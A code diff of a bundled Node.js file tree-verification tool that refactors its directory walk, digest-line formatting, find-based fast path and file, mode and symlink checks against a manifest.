@@ -38232,7 +39244,7 @@ const NO_SHA = '-'.repeat(64)
 /**
  * A subtree walked (and, with `hash`, its files hashed) in one pass, returned in a form that
  * crosses to the main thread cheaply and asks nothing more of it than hashing in walk order: the
- * digest lines exactly as walk.ts spells them (meta, stamp and, with `hash`, content), the
+ * digest lines exactly as walk-format.mjs spells them (meta, stamp and, with `hash`, content), the
  * per-file cache entries as a JSON fragment, and the records as packed columns (typed arrays,
  * one string of names and one of hashes) that the main thread unpacks only when a diff needs them.
  */
@@ -38254,7 +39266,7 @@ function subtreeColumns(rootAbs, rootRel, rules, hash) {
   let files = 0
   let failed = 0
   const each = (abs, rel, type, st) => {
-    const size = type === 'f' ? Number(st.size) : 0
+    const size = type === TYPE.file ? Number(st.size) : 0
     const mode = Number(st.mode & 0o7777n)
     rels.push(rel)
     types.push(type)
@@ -38264,24 +39276,22 @@ function subtreeColumns(rootAbs, rootRel, rules, hash) {
     inos.push(st.ino)
     mtimes.push(st.mtimeNs)
     ctimes.push(st.ctimeNs)
-    if (type !== 'd') files++
-    const head = `${rel}\0${type}\0${size}\0${modeText(mode)}`
-    meta.add(`${head}\n`)
-    stamp.add(
-      `${rel}\0${type}\0${st.dev}:${st.ino}:${stampTime(st.mtimeNs)}:${stampTime(st.ctimeNs)}\n`
-    )
+    if (type !== TYPE.dir) files++
+    const fields = metaFields(rel, type, size, mode)
+    meta.add(metaLineOf(fields))
+    stamp.add(stampLine(rel, type, st.dev, st.ino, st.mtimeNs, st.ctimeNs))
     let sha = NO_SHA
     if (!hash) return void shas.push(sha)
     let extra = ''
-    if (type === 'f') {
+    if (type === TYPE.file) {
       const r = walkedOrError(abs, size)
       if (r === undefined) failed++
       else {
         sha = extra = r
-        const value = `${st.dev}:${st.ino}:${st.mtimeNs}:${st.ctimeNs} ${size} ${sha}`
+        const value = cacheText(identText(st.dev, st.ino, st.mtimeNs, st.ctimeNs), size, sha)
         cache.add(`,${JSON.stringify(rel)}:${JSON.stringify(value)}`)
       }
-    } else if (type === 'l') {
+    } else if (type === TYPE.link) {
       try {
         extra = readTarget(abs)
       } catch {
@@ -38289,9 +39299,9 @@ function subtreeColumns(rootAbs, rootRel, rules, hash) {
       }
     }
     shas.push(sha)
-    content.add(`${head}\0${extra}\n`)
+    content.add(contentLine(fields, extra))
   }
-  visitSubtree(rootAbs, rootRel, rules, each, unreadable)
+  visitTree(rootAbs, rootRel, rules, each, unreadable)
   return {
     count: rels.length,
     files,
@@ -38313,19 +39323,9 @@ function subtreeColumns(rootAbs, rootRel, rules, hash) {
   }
 }
 
-const MODE_TEXT = new Map()
-function modeText(mode) {
-  let t = MODE_TEXT.get(mode)
-  if (t === undefined) {
-    t = (mode & 0o7777).toString(8).padStart(4, '0')
-    MODE_TEXT.set(mode, t)
-  }
-  return t
-}
-
 /**
  * The digest lines of a subtree as one string, without per-entry records: `meta` lines (relpath,
- * type, size, mode) or `stamp` lines (relpath and identity), exactly as walk.ts spells them.
+ * type, size, mode) or `stamp` lines (relpath and identity), as walk-format.mjs spells them.
  */
 function subtreeText(rootAbs, rootRel, rules, kind) {
   const chunks = []
@@ -38335,15 +39335,15 @@ function subtreeText(rootAbs, rootRel, rules, kind) {
   const each = (_abs, rel, type, st) => {
     text +=
       kind === 'meta'
-        ? `${rel}\0${type}\0${type === 'f' ? st.size : 0}\0${modeText(Number(st.mode))}\n`
-        : `${rel}\0${type}\0${st.dev}:${st.ino}:${stampTime(st.mtimeNs)}:${stampTime(st.ctimeNs)}\n`
+        ? metaLine(rel, type, st.size, Number(st.mode & 0o7777n))
+        : stampLine(rel, type, st.dev, st.ino, st.mtimeNs, st.ctimeNs)
     if (text.length > 1 << 16) {
       chunks.push(text)
       text = ''
     }
-    if (type !== 'd') files++
+    if (type !== TYPE.dir) files++
   }
-  visitSubtree(rootAbs, rootRel, rules, each, unreadable)
+  visitTree(rootAbs, rootRel, rules, each, unreadable)
   chunks.push(text)
   return { text: chunks.join(''), files, unreadable }
 }
@@ -38351,7 +39351,8 @@ function subtreeText(rootAbs, rootRel, rules, kind) {
 // Walk workers: claim roots from a shared counter, post each root's result with its index.
 if (!external_node_worker_threads_.isMainThread && (external_node_worker_threads_.workerData?.swrWalkWorker || external_node_worker_threads_.workerData?.swrTextWorker)) {
   const { roots, counter, hash, kind, names, exclude } = external_node_worker_threads_.workerData
-  const rules = { names: new Set(names), exclude: new Set(exclude) }
+  // Plain names only (skipped before their lstat): glob rules keep the walk in the main thread.
+  const rules = { skip: new Set(names), exclude: new Set(exclude) }
   const next = new Int32Array(counter)
   for (;;) {
     const i = Atomics.add(next, 0, 1)
@@ -38398,7 +39399,7 @@ function verifyBlob(e, ctx) {
     const st = loc.st;
     const size = Number(st.size);
     const mode = Number(st.mode & 4095n);
-    const found = { type: 'file', size, mode: octal(mode) };
+    const found = { type: 'file', size, mode: mode_octal(mode) };
     if (size !== want.size) {
         const how = size < want.size ? 'truncated' : 'grown';
         const detail = `${num(size)} bytes (want ${num(want.size)}, ${delta(size, want.size)}): ${how}`;
@@ -38442,10 +39443,10 @@ function verifyBlob(e, ctx) {
 }
 function judgeBlobMode(e, mode, recorded, found, deep, cached) {
     if (e.expect.mode && lostExec(parseMode(e.expect.mode), mode)) {
-        return finding(e, 'STRIPPED', 'exec', `mode ${octal(mode)}, exec bit lost (want ${e.expect.mode})`, recorded, found, cached);
+        return finding(e, 'STRIPPED', 'exec', `mode ${mode_octal(mode)}, exec bit lost (want ${e.expect.mode})`, recorded, found, cached);
     }
     if (e.expect.mode && mode !== parseMode(e.expect.mode)) {
-        const detail = `mode ${octal(mode)} (want ${e.expect.mode})`;
+        const detail = `mode ${mode_octal(mode)} (want ${e.expect.mode})`;
         return finding(e, 'CORRUPT', 'mode', detail, recorded, found, cached);
     }
     const how = deep ? 'size, head/tail and full sha256 match' : 'size and head/tail match';
@@ -38470,7 +39471,7 @@ function verifyFile(e, ctx) {
     const st = loc.st;
     const size = Number(st.size);
     const mode = Number(st.mode & 4095n);
-    const found = { type: 'file', size, mode: octal(mode) };
+    const found = { type: 'file', size, mode: mode_octal(mode) };
     if (size !== want.size) {
         const detail = `${num(size)} bytes (want ${num(want.size)}, ${delta(size, want.size)})`;
         return finding(e, 'CORRUPT', 'size', detail, recorded, found);
@@ -38510,11 +39511,11 @@ function judgeMode(e, mode, found, cached) {
         sha256: verifier_short(e.expect.sha256)
     };
     if (lostExec(wanted, mode)) {
-        const detail = `mode ${octal(mode)}, exec bit lost (want ${e.expect.mode})`;
+        const detail = `mode ${mode_octal(mode)}, exec bit lost (want ${e.expect.mode})`;
         return finding(e, 'STRIPPED', 'exec', detail, recorded, found, cached);
     }
     if (mode !== wanted) {
-        const detail = `mode ${octal(mode)} (want ${e.expect.mode})`;
+        const detail = `mode ${mode_octal(mode)} (want ${e.expect.mode})`;
         return finding(e, 'CORRUPT', 'mode', detail, recorded, found, cached);
     }
     return finding(e, 'OK', 'ok', `${num(e.expect.size)} bytes, mode ${e.expect.mode}`, recorded, found, cached);
@@ -38532,11 +39533,11 @@ function judgeMode(e, mode, found, cached) {
 const INLINE_BYTES = 48 * 1024 * 1024;
 const INLINE_COUNT = 400;
 /** Where the kernel lives next to this module, in src/ and in every bundle alike. */
-function kernelUrl() {
+function hash_pool_kernelUrl() {
     return __nccwpck_require__.ab + "hash-kernel.mjs";
 }
 /** Hash every job; results are in job order. */
-async function hashAll(jobs, opts = {}) {
+async function hash_pool_hashAll(jobs, opts = {}) {
     const total = jobs.reduce((s, j) => s + j.cost, 0);
     const cores = opts.jobs ?? external_node_os_default().availableParallelism();
     const workers = Math.max(1, Math.min(cores, opts.maxWorkers ?? 32, 32, jobs.length));
@@ -38545,7 +39546,7 @@ async function hashAll(jobs, opts = {}) {
     if (cores <= 1 || (total < INLINE_BYTES && jobs.length < INLINE_COUNT)) {
         let done = 0;
         return jobs.map(j => {
-            const r = runJob(j.abs, j.how);
+            const r = hash_kernel_runJob(j.abs, j.how);
             done += j.cost;
             opts.onProgress?.(done, total);
             return r;
@@ -38569,7 +39570,7 @@ async function hashAll(jobs, opts = {}) {
 }
 function runWorker(workerData, onBatch) {
     return new Promise((resolve, reject) => {
-        const w = new external_node_worker_threads_.Worker(kernelUrl(), { workerData });
+        const w = new external_node_worker_threads_.Worker(hash_pool_kernelUrl(), { workerData });
         let finished = false;
         w.on('message', (m) => {
             if (m === 'done') {
@@ -38607,7 +39608,7 @@ function verifyLink(e, ctx) {
         return loc;
     const target = external_node_fs_default().readlinkSync(loc.abs);
     const found = { type: 'symlink', target };
-    const end = followInside(ctx.workspace, loc.abs, target);
+    const end = link_followInside(ctx.workspace, loc.abs, target);
     if (target !== want) {
         const where = end.state === 'outside' ? ', outside the workspace' : '';
         return finding(e, 'CORRUPT', 'target', `points to ${target}${where} (want ${want})`, recorded, found);
@@ -38622,14 +39623,14 @@ function verifyLink(e, ctx) {
     }
 }
 /** Follow `target` from the link at `abs`, one contained hop at a time. */
-function followInside(workspace, abs, target) {
+function link_followInside(workspace, abs, target) {
     let from = abs;
     let to = target;
     for (let hop = 0; hop < MAX_HOPS; hop++) {
         const next = external_node_path_default().resolve(external_node_path_default().dirname(from), to);
         if (!paths_isInside(workspace, next))
             return { state: 'outside' };
-        const loc = locateInside(workspace, external_node_path_default().relative(workspace, next) || '.');
+        const loc = locate_entry_locateInside(workspace, external_node_path_default().relative(workspace, next) || '.');
         if (loc.state === 'escapes')
             return { state: 'outside' };
         if (loc.state === 'missing')
@@ -38686,14 +39687,14 @@ const LIST_LIMIT = 20;
 function indexPath(manifestFile, id) {
     return external_node_path_default().join(external_node_path_default().dirname(manifestFile), 'trees', `${id}.index.gz`);
 }
-function encodeIndex(records) {
+function tree_index_encodeIndex(records) {
     const lines = [
         HEADER,
         ...records.map(r => JSON.stringify([r.rel, r.type, r.mode, r.size, r.extra ?? null]))
     ];
     return gzipSync(lines.join('\n') + '\n', { level: 6 });
 }
-function indexRef(bytes, entries) {
+function tree_index_indexRef(bytes, entries) {
     return { sha256: createHash('sha256').update(bytes).digest('hex'), entries };
 }
 /** Read an index and check it against the manifest; undefined when absent, altered or unreadable. */
@@ -38747,7 +39748,7 @@ function diffIndex(recorded, now, nowExtra) {
             if (r.type === 'f' && b.size !== r.size)
                 what.push(`size ${b.size} -> ${r.size}`);
             if (r.type !== 'l' && b.mode !== r.mode) {
-                what.push(`mode ${octal(b.mode)} -> ${octal(r.mode)}`);
+                what.push(`mode ${mode_octal(b.mode)} -> ${mode_octal(r.mode)}`);
                 if (!lostExec(b.mode, r.mode))
                     execLossOnly = false;
             }
@@ -38845,12 +39846,12 @@ function allPlainNames(rules) {
  * The matcher: `rel` is the path relative to the tree, `name` its last segment, `isDir` whether it
  * is a directory (trailing-slash rules match only those). Throws on a rule set over the bounds.
  */
-function ignoreMatcher(rules) {
+function ignore_rules_ignoreMatcher(rules) {
     if (rules.length === 0)
         return () => false;
     const problem = ruleSetProblems(rules)[0];
     if (problem)
-        throw new UsageError(`ignore rule ${JSON.stringify(rules[problem[0]])} ${problem[1]}`);
+        throw new errors_UsageError(`ignore rule ${JSON.stringify(rules[problem[0]])} ${problem[1]}`);
     if (allPlainNames(rules)) {
         const names = new Set(rules);
         return (_rel, name) => names.has(name);
@@ -38862,20 +39863,167 @@ function ignoreMatcher(rules) {
     return (rel, name, isDir = false) => names.has(name) || ig.ignores(isDir ? `${rel}/` : rel);
 }
 
+;// CONCATENATED MODULE: ./src/core/verify/walk.ts
+/**
+ * The tree walk's records and the digests defined over them; the order and the lines are
+ * walk-format.mjs's. Symlinks are recorded, never followed. Names are bytes (see byte-names.mjs):
+ * lines hold them as the file system does, so a name that is not UTF-8 is walked, digested and
+ * indexed like any other. Which walker walks a tree is walk-strategy.ts's choice.
+ */
+
+
+
+
+
+
+/** The incremental-cache identity of a walked entry: dev:ino:mtime_ns:ctime_ns. */
+function ident(r) {
+    return identText(r.dev, r.ino, r.mtimeNs, r.ctimeNs);
+}
+
+function walk_metaLine(r) {
+    return metaLine(r.rel, r.type, r.size, r.mode);
+}
+/** Feed digest lines to a hash: as UTF-8, or as the name bytes they carry when not plain text. */
+function updateLines(h, text) {
+    h.update(text.isWellFormed() ? text : bytesOf(text));
+}
+/** Hash one line per record, in chunks (one hash update per record costs more than the hash). */
+function digestLines(records, line) {
+    const h = (0,external_node_crypto_.createHash)('sha256');
+    const CHUNK = 2048;
+    for (let i = 0; i < records.length; i += CHUNK) {
+        let text = '';
+        const end = Math.min(records.length, i + CHUNK);
+        for (let k = i; k < end; k++)
+            text += line(records[k], k);
+        updateLines(h, text);
+    }
+    return h.digest('hex');
+}
+/** The metadata digest: relpath, type, size and mode of every entry in walk order. */
+function walk_metaDigestOf(records) {
+    return digestLines(records, walk_metaLine);
+}
+/** One stamp line: path and identity. */
+function walk_stampLine(r) {
+    return stampLine(r.rel, r.type, r.dev, r.ino, r.mtimeNs, r.ctimeNs);
+}
+/**
+ * The cache stamp: every entry's path and identity (dev, inode, mtime_ns, ctime_ns). Any change of
+ * type, size or mode also changes ctime, so the stamp vouches for the metadata digest too.
+ */
+function stampOf(records) {
+    return digestLines(records, walk_stampLine);
+}
+/** The record of one lstat'ed entry. */
+function recordOf(rel, type, st) {
+    return {
+        rel,
+        type,
+        size: type === TYPE.file ? Number(st.size) : 0,
+        mode: Number(st.mode & 4095n),
+        dev: st.dev,
+        ino: st.ino,
+        mtimeNs: st.mtimeNs,
+        ctimeNs: st.ctimeNs
+    };
+}
+/**
+ * Walk the tree at `root` (already known to be a real directory) in walk-format.mjs's order,
+ * collecting one record per entry; digests are computed afterwards, only those the caller needs.
+ * `exclude` holds absolute paths of swr's own files (state directory, manifest, tree indexes)
+ * that are never part of a tree.
+ */
+function walk_walkTree(root, ignore, exclude = new Set()) {
+    const records = [];
+    const unreadable = [];
+    let files = 0;
+    const rules = { exclude, ignored: ignore_rules_ignoreMatcher(ignore) };
+    visitTree(root, '', rules, (_abs, rel, type, st) => {
+        records.push(recordOf(rel, type, st));
+        if (type !== TYPE.dir)
+            files++;
+    }, unreadable);
+    return { records, files, unreadable };
+}
+/** The content digest, given each file's sha256 and each link's target (by record index). */
+function walk_contentDigest(records, extra) {
+    return digestLines(records, (r, i) => contentLine(metaFields(r.rel, r.type, r.size, r.mode), extra[i] ?? ''));
+}
+/** Link targets for the link records (readlink never follows). */
+function walk_linkTargets(root, records) {
+    return records.map(r => {
+        if (r.type !== TYPE.link)
+            return undefined;
+        try {
+            return readTarget(external_node_path_default().join(root, r.rel));
+        }
+        catch {
+            return '';
+        }
+    });
+}
+/** A walk whose digests are computed only if and when something reads them. */
+function lazyDigests(walk, knownMeta) {
+    let meta;
+    let stamp;
+    // Getters, not a copy: a parallel walk's records are unpacked only when something reads them.
+    return {
+        get records() {
+            return walk.records;
+        },
+        files: walk.files,
+        unreadable: walk.unreadable,
+        get shas() {
+            return walk.shas;
+        },
+        pre: walk.pre,
+        get metaDigest() {
+            meta ??= walk.pre?.meta ?? knownMeta?.() ?? walk_metaDigestOf(walk.records);
+            return meta;
+        },
+        get stamp() {
+            stamp ??= walk.pre?.stamp ?? stampOf(walk.records);
+            return stamp;
+        }
+    };
+}
+/**
+ * The top level's names in walk order, typed from the directory listing (the file system's d_type;
+ * Node falls back to lstat where it is unknown). Undefined when the root cannot be listed.
+ */
+function listTop(root, ignore, exclude) {
+    let entries;
+    try {
+        entries = readEntries(root);
+    }
+    catch {
+        return undefined;
+    }
+    const ignored = ignore_rules_ignoreMatcher(ignore);
+    return entries
+        .map(d => ({ rel: d.name, dir: d.dir }))
+        .filter(t => !ignored(t.rel, t.rel, t.dir) && !exclude.has(`${root}/${t.rel}`))
+        .sort((a, b) => compareNames(a.rel, b.rel));
+}
+/** A file's entry in the per-file cache: its identity, size and sha256. */
+function cacheValue(r, sha256) {
+    return cacheText(ident(r), r.size, sha256);
+}
+
 ;// CONCATENATED MODULE: ./src/core/verify/find-lines.ts
 /**
  * find's output as lines, indexed and re-sorted into the Node walker's order. find prints each
- * directory in readdir order, one start point after another; the Node walker (hash-kernel.mjs)
- * visits each directory's children sorted by name, each followed by its own subtree. Everything
+ * directory in readdir order, one start point after another; the walk (walk-format.mjs) visits
+ * each directory's children sorted by name, each followed by its own subtree. Everything
  * here works on the bytes as find wrote them: lines are found, compared and copied as bytes and
  * hashed as they are, with no string per line (strings were most of the time, and most of the
  * garbage, when lines were decoded).
  */
 
-const NL = 0x0a;
-const NUL = 0x00;
+
 const SLASH = 0x2f;
-const TYPE_DIR = 0x64;
 /**
  * Where each line of find's output starts, where its path ends, where its name starts, and where
  * its subtree ends (the next line that is not below it): siblings are then found by jumping, and
@@ -38917,7 +40065,7 @@ class Lines {
         let last = -1;
         for (let i = 0; i < n; i++) {
             const c = b[i];
-            if (c === NL) {
+            if (c === LINE_END) {
                 if (z <= s)
                     return false;
                 this.push(s, z, d, last + 1);
@@ -38927,7 +40075,7 @@ class Lines {
                 last = i;
             }
             else if (z === -1) {
-                if (c === NUL)
+                if (c === FIELD_SEP)
                     z = i;
                 else if (c === SLASH) {
                     d++;
@@ -38972,7 +40120,10 @@ class Lines {
             this.end[open.pop()] = this.count;
         }
     }
-    /** Byte order of two lines' names (names are unique among siblings: never 0). */
+    /**
+     * Byte order of two lines' names (names are unique among siblings: never 0): walk-format.mjs's
+     * visit order on the names' bytes, the same order but where native-walk.ts says it is not.
+     */
     compareNames(x, y) {
         const k = this.key[x] - this.key[y];
         if (k !== 0)
@@ -38991,7 +40142,7 @@ class Lines {
     }
     /** Both kinds of line carry the type right after the path. */
     isDir(k) {
-        return this.bytes[this.nul[k] + 1] === TYPE_DIR;
+        return this.bytes[this.nul[k] + 1] === DIR_BYTE;
     }
     startsWith(k, prefix) {
         const b = this.bytes;
@@ -39091,8 +40242,9 @@ function splitBatch(bytes, batch, roots, texts) {
  * the lines in about half the time two Node walk workers take: Node's per-entry cost is the lstat
  * binding and its Stats object, not the system call, and a metadata check is nothing but that.
  *
- * The lines are the ones the Node walker (hash-kernel.mjs) writes, in the same order: find emits
- * each directory in readdir order, and find-lines.ts re-sorts the children by name (piping through
+ * The lines are the ones the Node walker (hash-kernel.mjs) writes, in the same order: both take
+ * them from walk-format.mjs (find through its -printf formats). find emits each directory in
+ * readdir order, and find-lines.ts re-sorts the children by name (piping through
  * sort(1) instead, or sorting in worker threads, were both measured slower: sort cannot start
  * before find ends, and workers cost more to start than they save on two cores). Whenever the
  * result could differ in any way, this returns undefined and the caller walks in Node: no find or
@@ -39106,6 +40258,7 @@ function splitBatch(bytes, batch, roots, texts) {
  * one, and a digest that differs only ever sends the check down its full walk. Equal digests are
  * all the fast path trusts, and find's lines are the tree as it is.
  */
+
 
 
 
@@ -39138,37 +40291,17 @@ function executable(bin) {
     }
 }
 /**
- * find's expression: names to prune, then one -printf per type so each line is the digest line
- * itself, path relative to the tree (start points are its top-level names). `top` describes the
- * start points themselves (the tree's top level) instead of what lies below them.
+ * find's expression: names to prune, then walk-format.mjs's -printf per type, so each line is the
+ * digest line itself, path relative to the tree (start points are its top-level names). `top`
+ * describes the start points themselves (the tree's top level) instead of what lies below them.
  */
 function findArgs(kind, ignore, top = false) {
-    // \000, never \0: GNU find reads up to three octal digits, so "\0" + "0" would be one NUL.
-    const line = (type, size) => kind === 'meta'
-        ? `%p\\000${type}\\000${size}\\000%04m\\n`
-        : `%p\\000${type}\\000%D:%i:%T@:%C@\\n`;
     const prune = ignore.flatMap((n, i) => (i === 0 ? ['-name', n] : ['-o', '-name', n]));
     return [
         ...(top ? ['-maxdepth', '0'] : ['-mindepth', '1']),
         ...(prune.length > 0 ? ['(', ...prune, ')', '-prune', '-o'] : []),
         '(',
-        '-type',
-        'f',
-        '-printf',
-        line('f', '%s'),
-        '-o',
-        '-type',
-        'd',
-        '-printf',
-        line('d', '0'),
-        '-o',
-        '-type',
-        'l',
-        '-printf',
-        line('l', '0'),
-        '-o',
-        '-printf',
-        line('o', '0'),
+        ...findPrintArgs(kind),
         ')'
     ];
 }
@@ -39366,16 +40499,11 @@ function assemble(l, top, subtrees, raw) {
     return { digest: h.digest('hex'), files, unreadable: [], raw };
 }
 
-;// CONCATENATED MODULE: ./src/core/verify/walk.ts
+;// CONCATENATED MODULE: ./src/core/verify/walk-workers.ts
 /**
- * The tree walk and the digests defined over it. Order: depth-first, children by name in JavaScript
- * string order, so no global sort is needed. Symlinks are recorded, never followed. Names are
- * bytes (see byte-names.mjs): lines hold them as the file system does, so a name that is not UTF-8
- * is walked, digested and indexed like any other. Each record contributes one line to each digest:
- *   meta:    relpath NUL type NUL size NUL mode LF         (type f, d, l or o; size 0 unless f)
- *   content: the meta line's fields, NUL sha256 (files) or link target (links), LF
- *   stamp:   relpath NUL type NUL dev:inode:mtime:ctime LF  (the incremental-cache key; times as
- *            GNU find's %T@ prints them, so the native walker's lines need no conversion)
+ * The walk on worker threads: the main thread lists the tree's upper levels (splitTop) and walk
+ * workers (hash-kernel.mjs) walk the directories below them, each in walk-format.mjs's order and
+ * writing its lines; the results are stitched back here in walk order.
  */
 
 
@@ -39385,169 +40513,8 @@ function assemble(l, top, subtrees, raw) {
 
 
 
-
-
-
-/** The incremental-cache identity of a walked entry: dev:ino:mtime_ns:ctime_ns. */
-function ident(r) {
-    return `${r.dev}:${r.ino}:${r.mtimeNs}:${r.ctimeNs}`;
-}
-
-const MODES = new Map();
-function walk_modeText(mode) {
-    let t = MODES.get(mode);
-    if (t === undefined) {
-        t = octal(mode);
-        MODES.set(mode, t);
-    }
-    return t;
-}
-function metaLine(r) {
-    return `${r.rel}\0${r.type}\0${r.type === 'f' ? r.size : 0}\0${walk_modeText(r.mode)}\n`;
-}
-/** Feed digest lines to a hash: as UTF-8, or as the name bytes they carry when not plain text. */
-function updateLines(h, text) {
-    h.update(text.isWellFormed() ? text : bytesOf(text));
-}
-/** Hash one line per record, in chunks (one hash update per record costs more than the hash). */
-function digestLines(records, line) {
-    const h = (0,external_node_crypto_.createHash)('sha256');
-    const CHUNK = 2048;
-    for (let i = 0; i < records.length; i += CHUNK) {
-        let text = '';
-        const end = Math.min(records.length, i + CHUNK);
-        for (let k = i; k < end; k++)
-            text += line(records[k], k);
-        updateLines(h, text);
-    }
-    return h.digest('hex');
-}
-/** The metadata digest: relpath, type, size and mode of every entry in walk order. */
-function metaDigestOf(records) {
-    return digestLines(records, metaLine);
-}
-/** One stamp line: path and identity (the worker kernel spells it the same way). */
-function stampLine(r) {
-    return `${r.rel}\0${r.type}\0${r.dev}:${r.ino}:${stampTime(r.mtimeNs)}:${stampTime(r.ctimeNs)}\n`;
-}
-/**
- * The cache stamp: every entry's path and identity (dev, inode, mtime_ns, ctime_ns). Any change of
- * type, size or mode also changes ctime, so the stamp vouches for the metadata digest too.
- */
-function stampOf(records) {
-    return digestLines(records, stampLine);
-}
-/** The record of one lstat'ed entry. */
-function recordOf(rel, st) {
-    const type = st.isFile()
-        ? 'f'
-        : st.isDirectory()
-            ? 'd'
-            : st.isSymbolicLink()
-                ? 'l'
-                : 'o';
-    return {
-        rel,
-        type,
-        size: type === 'f' ? Number(st.size) : 0,
-        mode: Number(st.mode & 4095n),
-        dev: st.dev,
-        ino: st.ino,
-        mtimeNs: st.mtimeNs,
-        ctimeNs: st.ctimeNs
-    };
-}
-/**
- * Walk the tree at `root` (already known to be a real directory), collecting one record per entry;
- * digests are computed afterwards, only those the caller needs. `exclude` holds absolute paths of
- * swr's own files (state directory, manifest, tree indexes) that are never part of a tree.
- */
-function walkTree(root, ignore, exclude = new Set()) {
-    const ignored = ignoreMatcher(ignore);
-    const records = [];
-    const unreadable = [];
-    let files = 0;
-    const visit = (absDir, relDir) => {
-        let names;
-        try {
-            names = readNames(absDir);
-        }
-        catch (err) {
-            unreadable.push({ rel: relDir || '.', code: err.code ?? 'EIO' });
-            return;
-        }
-        names.sort();
-        for (const name of names) {
-            const rel = relDir ? `${relDir}/${name}` : name;
-            const abs = `${absDir}/${name}`;
-            if (exclude.has(abs))
-                continue;
-            const st = external_node_fs_default().lstatSync(fsPath(abs), { bigint: true, throwIfNoEntry: false });
-            if (!st)
-                continue; // vanished between readdir and lstat: the same as not there
-            if (ignored(rel, name, st.isDirectory()))
-                continue;
-            const rec = recordOf(rel, st);
-            records.push(rec);
-            if (rec.type === 'd')
-                visit(abs, rel);
-            else
-                files++;
-        }
-    };
-    visit(root, '');
-    return { records, files, unreadable };
-}
-/** The content digest, given each file's sha256 and each link's target (by record index). */
-function contentDigest(records, extra) {
-    return digestLines(records, (r, i) => `${metaLine(r).slice(0, -1)}\0${extra[i] ?? ''}\n`);
-}
-/** Link targets for the link records (readlink never follows). */
-function linkTargets(root, records) {
-    return records.map(r => {
-        if (r.type !== 'l')
-            return undefined;
-        try {
-            return readTarget(external_node_path_default().join(root, r.rel));
-        }
-        catch {
-            return '';
-        }
-    });
-}
-/** A walk whose digests are computed only if and when something reads them. */
-function lazyDigests(walk, knownMeta) {
-    let meta;
-    let stamp;
-    // Getters, not a copy: a parallel walk's records are unpacked only when something reads them.
-    return {
-        get records() {
-            return walk.records;
-        },
-        files: walk.files,
-        unreadable: walk.unreadable,
-        get shas() {
-            return walk.shas;
-        },
-        pre: walk.pre,
-        get metaDigest() {
-            meta ??= walk.pre?.meta ?? knownMeta?.() ?? metaDigestOf(walk.records);
-            return meta;
-        },
-        get stamp() {
-            stamp ??= walk.pre?.stamp ?? stampOf(walk.records);
-            return stamp;
-        }
-    };
-}
 /** The smallest number of top-level subdirectories worth splitting across workers. */
 const MIN_ROOTS = 16;
-/**
- * The smallest tree (recorded files) worth a find whatever its shape: starting the shell and the
- * finds costs ~15 ms, about what the Node walker spends on 1,000 entries (lstat ~10-15 µs each
- * here, plus the garbage), and find walks the rest at about half Node's cost per entry.
- */
-const NATIVE_MIN_FILES = 1000;
 /** How many levels below the root the main thread lists, at most, to find enough subdirectories. */
 const MAX_SPLIT_DEPTH = 3;
 /**
@@ -39561,25 +40528,14 @@ function splitTop(root, ignore, exclude) {
     // Workers match plain names only; a glob rule keeps the walk inline (see ignore-rules.ts).
     if (!allPlainNames(ignore))
         return undefined;
-    const ignored = ignoreMatcher(ignore);
+    const rules = { exclude, ignored: ignore_rules_ignoreMatcher(ignore) };
     const list = (relDir) => {
-        const absDir = relDir ? `${root}/${relDir}` : root;
-        let names;
+        const out = [];
         try {
-            names = readNames(absDir).sort();
+            eachChild(relDir ? `${root}/${relDir}` : root, relDir, rules, (_abs, rel, type, st) => out.push(recordOf(rel, type, st)));
         }
         catch {
             return undefined;
-        }
-        const out = [];
-        for (const name of names) {
-            const rel = relDir ? `${relDir}/${name}` : name;
-            const abs = `${absDir}/${name}`;
-            if (exclude.has(abs))
-                continue;
-            const st = external_node_fs_default().lstatSync(fsPath(abs), { bigint: true, throwIfNoEntry: false });
-            if (st && !ignored(rel, name, st.isDirectory()))
-                out.push(recordOf(rel, st));
         }
         return out;
     };
@@ -39588,12 +40544,12 @@ function splitTop(root, ignore, exclude) {
         return undefined;
     // `open`: a directory whose entries are listed here (so not a root).
     let level = first.map(rec => ({ rec, open: false }));
-    const roots = () => level.filter(x => x.rec.type === 'd' && !x.open).length;
+    const roots = () => level.filter(x => x.rec.type === TYPE.dir && !x.open).length;
     for (let depth = 1; roots() > 0 && roots() < MIN_ROOTS && depth < MAX_SPLIT_DEPTH; depth++) {
         const next = [];
         for (const x of level) {
             next.push(x);
-            if (x.rec.type !== 'd' || x.open)
+            if (x.rec.type !== TYPE.dir || x.open)
                 continue;
             const below = list(x.rec.rel);
             if (!below)
@@ -39607,7 +40563,7 @@ function splitTop(root, ignore, exclude) {
         return undefined;
     const split = { top: [], roots: [] };
     for (const { rec, open } of level) {
-        const sub = rec.type === 'd' && !open
+        const sub = rec.type === TYPE.dir && !open
             ? split.roots.push({ abs: `${root}/${rec.rel}`, rel: rec.rel }) - 1
             : -1;
         split.top.push({ rec, sub });
@@ -39615,56 +40571,18 @@ function splitTop(root, ignore, exclude) {
     return split;
 }
 /**
- * The top level's names in walk order, typed from the directory listing (the file system's d_type;
- * Node falls back to lstat where it is unknown). Undefined when the root cannot be listed.
+ * The metadata digest or the cache stamp of the tree `split` describes, from walk workers that
+ * return each subtree's lines as text, hashed here in walk order (no per-entry records).
  */
-function listTop(root, ignore, exclude) {
-    let entries;
-    try {
-        entries = readEntries(root);
-    }
-    catch {
-        return undefined;
-    }
-    const ignored = ignoreMatcher(ignore);
-    return entries
-        .map(d => ({ rel: d.name, dir: d.dir }))
-        .filter(t => !ignored(t.rel, t.rel, t.dir) && !exclude.has(`${root}/${t.rel}`))
-        .sort((a, b) => (a.rel < b.rel ? -1 : 1));
-}
-/**
- * The metadata digest or the cache stamp of a large tree without building per-entry records: from
- * GNU find's lines where native-walk.ts can promise the Node walker's, else from walk workers that
- * return each subtree's lines as text, hashed here in walk order. Undefined when the tree is too
- * small or flat for either (the caller walks it inline).
- */
-async function digestTreeParallel(root, ignore, exclude, opts) {
-    const jobs = Math.min(opts.jobs ?? external_node_os_default().availableParallelism(), 8);
-    if (opts.native !== false) {
-        // find describes the top level too: only the listing is read here (no lstat per entry).
-        const top = listTop(root, ignore, exclude);
-        const dirs = top?.filter(t => t.dir).length ?? 0;
-        if (top && dirs > 0 && (dirs >= MIN_ROOTS || (opts.expectFiles ?? 0) >= NATIVE_MIN_FILES)) {
-            const r = await nativeTreeDigest(root, top, ignore, exclude, opts.kind, jobs, {
-                known: opts.known
-            });
-            if (r)
-                return r;
-        }
-    }
-    if (jobs < 2)
-        return undefined;
-    const split = splitTop(root, ignore, exclude);
-    if (!split)
-        return undefined;
-    const line = opts.kind === 'meta' ? metaLine : stampLine;
